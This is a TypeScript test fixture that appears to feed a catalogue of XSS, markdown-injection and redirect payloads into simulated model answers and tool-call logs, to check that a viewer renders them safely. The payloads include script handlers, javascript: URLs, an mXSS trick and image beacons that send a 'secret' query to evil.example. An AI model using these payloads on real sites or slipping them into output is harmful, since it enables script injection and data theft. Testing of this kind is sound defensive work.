/** Attempts to run code, to load something from elsewhere, or to leave the page, and logs in which tools made them. */
import type { ViewRecord } from '@toolwire/core/view'
import { Script } from '../../../packages/core/test/view/script.ts'

export const PAYLOADS: readonly string[] = [
  '<script>window.pwned=1</script>',
  '<img src=x onerror="window.pwned=1">',
  '<svg onload="window.pwned=1"><circle/></svg>',
  '<svg><script>window.pwned=1</script></svg>',
  '[click](javascript:window.pwned=1)',
  '[click](JaVaScRiPt:window.pwned=1)',
  '[click](java\u0001script:window.pwned=1)',
  '[click](vbscript:msgbox(1))',
  '[click](data:text/html,<script>window.pwned=1</script>)',
  '[click](blob:https://evil.example/x)',
  '<https://evil.example/auto>',
  '[ref]: javascript:window.pwned=1\n[ref]',
  '![x](https://evil.example/p.png?q=secret)',
  '![x](javascript:window.pwned=1)',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)',
  '![x][1]\n\n[1]: https://evil.example/ref.png',
  '[![x](https://evil.example/in-link.png)](https://evil.example)',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">',
  '<a href="jav&#x09;ascript:window.pwned=1">x</a>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<link rel="preload" as="image" href="https://evil.example/p.png">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<div style="background:url(https://evil.example/bg.png)">x</div>',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1></style></mglyph></table></mtext></math>',
  '<form action="https://evil.example"><input name=q><button>go</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<video src="https://evil.example/v.mp4" autoplay onloadstart="window.pwned=1"></video>',
  '<details open ontoggle="window.pwned=1">x</details>',
  '<input autofocus onfocus="window.pwned=1">',
  '<template><img src=x onerror="window.pwned=1"></template>',
  '</textarea></pre></code><img src=x onerror="window.pwned=1">',
  '`${window.pwned=1}` {{constructor.constructor("window.pwned=1")()}}',
  '```html\n<script>window.pwned=1</script>\n```',
  '```"><img src=x onerror=window.pwned=1>\ncode\n```',
  '| a | <img src=x onerror=window.pwned=1> |\n|---|---|\n| [x](javascript:window.pwned=1) | ![y](https://evil.example/t.png) |',
  '\u001b]8;;javascript:window.pwned=1\u0007link\u001b]8;;\u0007 \u001b[31m<img src=x onerror=window.pwned=1>\u001b[0m',
  '\u202Egnp.exe\u202C <bdo dir=rtl>x</bdo>',
]

/** Every payload as the answer of a model, and as arguments and results of tools of every kind. */
export function hostileLog(): readonly ViewRecord[] {
  const script = new Script().created()
  for (const [n, payload] of PAYLOADS.entries()) {
    const message = `m${n}`
    script.ask(payload, `r${n}`).turn(message)
    script.text(message, 0, [payload.slice(0, 5), payload.slice(5)])
    for (const [index, [name, input]] of toCalls(payload).entries())
      oneCall(script, { message, index, name, input, payload })
    script.endTurn(message).completeRun()
  }
  return script.records
}

type Call = readonly [name: string, input: unknown]

const toCalls = (payload: string): readonly Call[] => [
  ['Bash', { command: payload, description: payload }],
  ['Read', { file_path: payload }],
  ['Edit', { file_path: payload, old_string: payload, new_string: `${payload}!` }],
  ['Write', { file_path: 'a.html', content: payload }],
  ['Grep', { pattern: payload, path: payload }],
  ['WebSearch', { query: payload }],
  ['TodoWrite', { todos: [{ content: payload, status: 'pending' }] }],
  ['NotebookEdit', { notebook_path: payload, new_source: payload }],
  ['Agent', { prompt: payload, description: payload }],
  [payload.slice(0, 60), { [payload]: payload, nested: { deep: [payload] } }],
]

interface Made {
  readonly message: string
  readonly index: number
  readonly name: string
  readonly input: unknown
  readonly payload: string
}

function oneCall(script: Script, { message, index, name, input, payload }: Made): void {
  const call_id = `${message}c${index}`
  script.call(message, index + 1, call_id, { name, input })
  script.add('tool.started', { call_id, attempt: 1 })
  script.add('tool.progress', { call_id, output_delta: `${payload}\n` })
  script.add('tool.completed', {
    call_id,
    content: [
      { type: 'text', text: payload },
      ...(index === 9
        ? ([
            { type: 'image', source: { type: 'url', url: 'https://evil.example/tool.png' } },
            {
              type: 'image',
              source: {
                type: 'base64',
                media_type: 'image/svg+xml',
                data: 'PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+',
              },
            },
          ] as const)
        : []),
    ],
    output_text: payload,
    is_error: false,
    ...(name === 'WebSearch'
      ? {
          structured: {
            results: [
              { title: payload, url: 'javascript:window.pwned=1', snippet: payload },
              { title: payload, url: 'https://evil.example/found', snippet: payload },
            ],
          },
        }
      : {}),
    duration_ms: 1,
  })
}
